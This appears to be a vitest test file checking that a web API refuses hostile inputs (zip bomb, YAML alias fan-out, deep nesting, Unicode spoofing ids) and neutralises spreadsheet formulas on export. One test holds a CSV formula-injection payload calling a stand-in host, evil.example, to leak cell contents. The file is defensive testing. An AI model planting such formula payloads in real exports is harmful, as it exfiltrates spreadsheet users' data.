/**
 * Issue 10's reproductions, one test each, on both databases: a hostile request is
 * answered with a 4xx that names the limit, in bounded time, and writes nothing.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { verifyAuditChain } from '../store/audit-verify.js';
import { describeEachDatabase } from '../test-support/databases.js';
import {
  aliasFanOutSpec,
  deepJson,
  hardOptimizeSpec,
  largeCsv,
  xlsxZipBomb,
} from '../test-support/hostile-payloads.js';
import { createTestApi, type TestApi } from './test-support/api.js';
import { prepareWorkspace } from './test-support/route-cases.js';
import { rowCounts } from './test-support/row-counts.js';

describeEachDatabase('hostile input', (get) => {
  let api: TestApi;
  beforeAll(async () => {
    api = await createTestApi(get().db);
    await prepareWorkspace(api);
  });
  afterAll(() => api.close());

  const putSpec = (payload: string, type: string) =>
    api.as('editor', {
      method: 'PUT',
      url: `/api/workspaces/${api.slug}/spec`,
      headers: { 'content-type': type },
      payload,
    });

  /**
   * Sends `request` and, until it is answered, asks /api/health every 20 ms; returns the
   * answer and the slowest health check (ms). Health waits only when the event loop is
   * blocked, which is what the worker threads prevent.
   */
  async function healthWhile<T>(request: Promise<T>): Promise<{ answer: T; slowest: number }> {
    let done = false;
    let slowest = 0;
    const pings = (async () => {
      while (!done) {
        const started = performance.now();
        const res = await api.app.inject({ method: 'GET', url: '/api/health' });
        expect(res.statusCode).toBe(200);
        slowest = Math.max(slowest, performance.now() - started);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })();
    const answer = await request.finally(() => {
      done = true;
    });
    await pings;
    return { answer, slowest };
  }

  const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  const importFile = (url: string, type: string, payload: Buffer | string) =>
    api.as('editor', {
      method: 'POST',
      url: `/api/workspaces/${api.slug}/imports/partners${url}`,
      headers: { 'content-type': type },
      payload,
    });

  it('health answers in < 200 ms while a 5.5 MB CSV preview is read', async () => {
    const csv = largeCsv();
    expect(csv.length).toBeGreaterThan(5_000_000);
    const { answer, slowest } = await healthWhile(importFile('/preview', 'text/csv', csv));
    expect(answer.statusCode).toBe(200);
    expect(answer.json().rows.length).toBeGreaterThan(0);
    expect(slowest).toBeLessThan(200);
  });

  it('a 1 MB → 1 GB XLSX is refused before inflating; health keeps answering', async () => {
    const before = await rowCounts(api.db);
    const bomb = await xlsxZipBomb();
    const { answer, slowest } = await healthWhile(importFile('', XLSX, bomb));
    expect(answer.statusCode).toBe(422);
    expect(answer.json().detail).toMatch(/inflates 1\d{3}×.*the limit is 200×/);
    expect(slowest).toBeLessThan(200);
    expect(await rowCounts(api.db)).toEqual(before);
  });

  it('health answers in < 200 ms while the alias fan-out spec is parsed', async () => {
    const { answer, slowest } = await healthWhile(putSpec(aliasFanOutSpec(), 'application/yaml'));
    expect(answer.statusCode).toBe(422);
    expect(slowest).toBeLessThan(200);
  });

  it('CSV export neutralises formula-leading cells; XLSX writes text cells; both import back', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const notes = ['+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1+1'];
    for (const [i, note] of notes.entries()) {
      const res = await api.as('editor', {
        method: 'POST',
        url: `/api/workspaces/${api.slug}/partners`,
        payload: { id: `formula-${i}`, name, kind: 'enterprise', notes: note, cost: -5, return: 1 },
      });
      expect(res.statusCode).toBe(201);
    }
    const csv = await api.as('viewer', {
      method: 'GET',
      url: `/api/workspaces/${api.slug}/exports/partners.csv`,
    });
    const records = parse(csv.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<
      string,
      string
    >[];
    const ours = records.filter((r) => r.id?.startsWith('formula-'));
    expect(ours).toHaveLength(notes.length);
    for (const [i, record] of ours.entries()) {
      expect(record.name).toBe(`'${name}`);
      expect(record.notes).toBe(`'${notes[i]}`);
      expect(record.cost).toBe('-5'); // a number stays a number
    }
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    for (const line of csv.body.split('\n')) expect(line).not.toMatch(/(^|,)[=+@]/);

    const back = await api.as('editor', {
      method: 'POST',
      url: `/api/workspaces/${api.slug}/imports/partners/preview`,
      headers: { 'content-type': 'text/csv' },
      payload: csv.body,
    });
    const rows = back.json<{ rows: { partner: { id: string; name: string; notes: string } }[] }>()
      .rows;
    const again = rows.filter((r) => r.partner.id.startsWith('formula-'));
    expect(again.map((r) => r.partner.name)).toEqual(notes.map(() => name));
    expect(again.map((r) => r.partner.notes)).toEqual(notes);

    const xlsx = await api.as('viewer', {
      method: 'GET',
      url: `/api/workspaces/${api.slug}/exports/partners.xlsx`,
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    let checked = 0;
    sheet?.eachRow((row) => {
      row.eachCell((cell) => {
        if (typeof cell.value === 'string' && cell.value.startsWith('=HYPERLINK')) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          expect(cell.formula).toBeUndefined();
          expect(cell.numFmt).toBe('@');
          checked += 1;
        }
      });
    });
    expect(checked).toBe(notes.length);
  });

  const postPartner = (payload: string) =>
    api.as('editor', {
      method: 'POST',
      url: `/api/workspaces/${api.slug}/partners`,
      headers: { 'content-type': 'application/json' },
      payload,
    });

  it('a lone surrogate in a partner id is refused; the audit chain stays intact', async () => {
    const before = await rowCounts(api.db);
    const res = await postPartner('{"id":"lone\\ud800","kind":"academic","cost":1,"return":2}');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'invalid_request', errors: [{ path: 'id' }] });
    expect(res.json().detail).toContain('lone surrogate');
    expect(await rowCounts(api.db)).toEqual(before);
    expect(await verifyAuditChain(api.db)).toMatchObject({ intact: true });
  });

  it.each([
    ['zero\\u200bwidth', 'U+200B'],
    ['bidi\\u202eevil', 'U+202E'],
    ['p\\u0430ypal', 'Latin and Cyrillic'],
  ])('the partner id %s is refused, naming why', async (id, why) => {
    const res = await postPartner(`{"id":"${id}","kind":"academic","cost":1,"return":2}`);
    expect(res.statusCode).toBe(400);
    expect(res.json().errors[0]).toMatchObject({ path: 'id' });
    expect(res.json().errors[0].message).toContain(why);
  });

  it('an id in NFD is stored in NFC and found by either form', async () => {
    const res = await postPartner('{"id":"cafe\\u0301","kind":"academic","cost":1,"return":2}');
    expect(res.statusCode).toBe(201);
    expect(res.json().id).toBe('caf\u00e9');
    const read = await api.as('viewer', {
      method: 'GET',
      url: `/api/workspaces/${api.slug}/partners/${encodeURIComponent('caf\u00e9')}`,
    });
    expect(read.statusCode).toBe(200);
  });

  it('cost 1e308 is refused naming the field; analyses keep working', async () => {
    const res = await postPartner('{"id":"huge","kind":"academic","cost":1e308,"return":2}');
    expect(res.statusCode).toBe(400);
    expect(res.json().errors[0]).toMatchObject({ path: 'cost' });
    expect(res.json().errors[0].message).toContain('1e12');
    const spec = JSON.stringify({
      version: 1,
      criteria: [{ id: 'tech', kind: 'benefit', weight: 1 }],
      partners: [{ id: 'huge', kind: 'academic', scores: { tech: 1 }, cost: 1e308, return: 2 }],
    });
    const put = await putSpec(spec, 'application/json');
    expect(put.statusCode).toBe(422);
    expect(put.json().errors[0]).toMatchObject({ path: 'partners[0].cost', code: 'out_of_range' });
  });

  it('a YAML alias fan-out is refused as too large, quickly, writing nothing', async () => {
    const before = await rowCounts(api.db);
    const started = performance.now();
    const res = await putSpec(aliasFanOutSpec(), 'application/yaml');
    // Bounded by the size of the text, not of the expansion (a loaded machine is slow to parse).
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({
      code: 'invalid_spec',
      errors: [{ code: 'too_large', line: 1, column: 1 }],
    });
    expect(res.json().errors[0].message).toContain('maxAliasNodes');
    expect(await rowCounts(api.db)).toEqual(before);
  });

  it('a spec nested 2,000 deep (JSON) answers 422 too_deep, not 500', async () => {
    const res = await putSpec(deepJson(2_000), 'application/json');
    expect(res.statusCode).toBe(422);
    expect(res.json().errors[0]).toMatchObject({ code: 'too_deep' });
    expect(res.json().errors[0].message).toContain('limit is 64 levels');
  });

  it('a JSON body nested 2,000 deep answers 400 naming the limit', async () => {
    const res = await api.as('editor', {
      method: 'POST',
      url: `/api/workspaces/${api.slug}/partners`,
      headers: { 'content-type': 'application/json' },
      payload: `{"id":"deep","kind":"academic","notes":${deepJson(2_000, '"x"')}}`,
    });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'invalid_request', errors: [{ code: 'too_deep' }] });
    expect(res.json().detail).toContain('64 levels');
  });

  // Last: it replaces the workspace's spec with one the solver cannot finish quickly.
  it('health answers in < 200 ms while HiGHS works on a hard optimisation', async () => {
    expect((await putSpec(hardOptimizeSpec(), 'application/json')).statusCode).toBe(200);
    const optimize = api.as('editor', {
      method: 'POST',
      url: `/api/workspaces/${api.slug}/optimize`,
      payload: { timeLimit: 2 },
    });
    const { answer, slowest } = await healthWhile(optimize);
    expect(answer.statusCode).toBe(200);
    expect(answer.json().status).toBe('time-limit');
    expect(slowest).toBeLessThan(200);
  });
});
